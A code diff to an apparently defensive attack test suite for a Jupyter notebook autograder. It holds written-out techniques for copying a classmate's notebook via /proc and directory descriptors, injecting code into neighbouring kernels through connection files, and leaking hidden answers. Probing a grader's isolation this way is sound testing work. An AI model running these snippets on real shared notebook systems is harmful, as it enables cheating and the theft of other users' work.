@@ -454,16 +454,16 @@ def decode(data):
 
 
 def leak_hidden(ctx: Context) -> list[Submission]:
-    nb = release(CHAT)
+    nb = solved(CHAT)  # every answer works but decode(), which raises what it finds
     cell(nb, "q1_answer").source += "\n\n" + LEAK
     return [Submission("d5-leak-hidden", CHAT, nb)]
 
 
 def copy_classmate(ctx: Context) -> list[Submission]:
-    victim = ctx.submissions / "zz-d6-classmate" / f"{CHAT}.ipynb"
+    victim = f"{ctx.submissions.name}/zz-d6-classmate/{CHAT}.ipynb"
     code = f"""
-_dir = os.open({str(victim.parent.parent)!r}, os.O_RDONLY)
-_fd = os.open("zz-d6-classmate/{CHAT}.ipynb", os.O_RDONLY, dir_fd=_dir)
+_dir = os.open({str(ctx.submissions.parent)!r}, os.O_RDONLY)
+_fd = os.open({victim!r}, os.O_RDONLY, dir_fd=_dir)
 {run_stolen("os.read(_fd, 10_000_000).decode()")}
 """
     return [
@@ -487,7 +487,9 @@ def victim_hook(token: str) -> str:
 
 
 def victim(student: str, token: str) -> Submission:
-    return Submission(student, CHAT, first(release(CHAT), f"VICTIM_TOKEN = {token!r}"), kept=True)
+    """A blank classmate whose notebook takes a few seconds (a slow cell of its own)."""
+    nb = first(release(CHAT), f"VICTIM_TOKEN = {token!r}\nimport time\ntime.sleep(6)")
+    return Submission(student, CHAT, nb, kept=True)
 
 
 def inject_neighbour(ctx: Context) -> list[Submission]:
@@ -503,7 +505,7 @@ _mine = os.path.realpath(get_connection_file())
 _done, _deadline = False, time.monotonic() + 8
 while not _done and time.monotonic() < _deadline:
     for _root in {{jupyter_runtime_dir(), tempfile.gettempdir(), "/tmp"}}:
-        for _file in glob.glob(_root + "/kernel-*.json") + glob.glob(_root + "/*/kernel-*.json"):
+        for _file in glob.glob(_root + "/*.json") + glob.glob(_root + "/*/kernel-*.json"):
             if os.path.realpath(_file) == _mine:
                 continue
             try:
@@ -522,10 +524,9 @@ while not _done and time.monotonic() < _deadline:
     time.sleep(0.2)
 print("injected" if _done else "found no victim")
 """
-    return [
-        Submission("e1-inject", CHAT, blank_with(attempt(code))),
-        victim("e1-victim", token),
-    ]
+    nb = blank_with(attempt(code))
+    scratch(nb, attempt(code), after="q1_text")  # and again: 16 s of watching in all
+    return [Submission("e1-inject", CHAT, nb), victim("e1-victim", token)]
 
 
 # --- F: tampering after the run -----------------------------------------------------------------
@@ -733,24 +734,29 @@ print("reached the host")
 
 
 def read_proc(ctx: Context) -> list[Submission]:
-    """Copy a classmate's answers from another kernel's memory-free view: /proc/PID/cwd."""
-    code = (
-        """
+    """Find the submissions folder in the grader's command line (/proc), copy a classmate."""
+    stolen = run_stolen("os.read(_fd, 10_000_000).decode()")
+    steal = "\n".join("        " + line for line in stolen.splitlines())
+    code = f"""
 import glob
-for _cwd in glob.glob("/proc/[0-9]*/cwd"):
+for _cmd in glob.glob("/proc/[0-9]*/cmdline"):
     try:
-        for _name in os.listdir(_cwd):
-            if _name.endswith(".ipynb"):
-                _text = open(os.path.join(_cwd, _name)).read()
-                if "channel(f\\"chat:" in _text:
+        _args = open(_cmd, "rb").read().decode().split("\\0")
+    except OSError:
+        continue
+    if "helpers.grading" in _args and "grade" in _args:
+        _cwd = os.readlink(os.path.dirname(_cmd) + "/cwd")
+        _folder = os.path.join(_cwd, _args[_args.index("grade") + 1])
+        _dir = os.open(os.path.dirname(_folder), os.O_RDONLY)
+        _name = os.path.basename(_folder) + "/zz-n2-classmate/{CHAT}.ipynb"
+        _fd = os.open(_name, os.O_RDONLY, dir_fd=_dir)
+{steal}
+        break
 """
-        + "\n".join("                    " + line for line in run_stolen("_text").splitlines())
-        + """
-    except Exception:
-        pass
-"""
-    )
-    return [Submission("n2-proc", CHAT, blank_with(attempt(code)))]
+    return [
+        Submission("n2-proc", CHAT, blank_with(attempt(code))),
+        Submission("zz-n2-classmate", CHAT, solved(CHAT), honest=8, kept=True),
+    ]
 
 
 def bridge_forgery(ctx: Context) -> list[Submission]:
@@ -841,7 +847,12 @@ ATTACKS = [
     Attack("H3", "output abuse", "symlinked submission file and folder", symlinked_submission),
     Attack("H4", "output abuse", "student named '..' (file ...ipynb) (new)", dotdot_name),
     Attack("N1", "reaching the host", "TCP connection to an instructor's service", reach_host),
-    Attack("N2", "reading what is hidden", "classmate's notebook via /proc/PID/cwd", read_proc),
+    Attack(
+        "N2",
+        "reading what is hidden",
+        "grader's command line in /proc, then a classmate",
+        read_proc,
+    ),
     Attack("N3", "forging the judge", "input transformer answers the bridge", bridge_forgery),
     Attack("N4", "forging the judge", "replace the Redis socket with a fake", redis_takeover),
 ]
